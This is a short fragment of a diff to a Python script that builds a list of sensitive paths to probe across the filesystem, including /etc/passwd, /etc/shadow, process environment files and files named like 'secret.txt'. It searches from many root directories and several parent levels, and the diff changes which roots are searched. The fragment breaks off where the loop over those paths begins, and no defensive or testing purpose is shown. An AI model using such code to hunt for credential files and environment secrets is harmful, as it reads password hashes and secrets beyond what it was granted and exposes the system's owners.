@@ -13,7 +13,7 @@ NAMES = (
     "secret.txt",
 )
 PLACES = ["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/cpuinfo"]
-for start in ("/", os.getcwd(), sys.prefix, sys.base_prefix, *sys.path, "/work/main", "/root"):
+for start in ("/", os.getcwd(), sys.prefix, sys.base_prefix, *sys.path, "/home", "/srv"):
     for up in ("", "..", "../..", "../../..", "../../../.."):
         PLACES += [os.path.join(start, up, name) for name in NAMES]
 for place in PLACES:
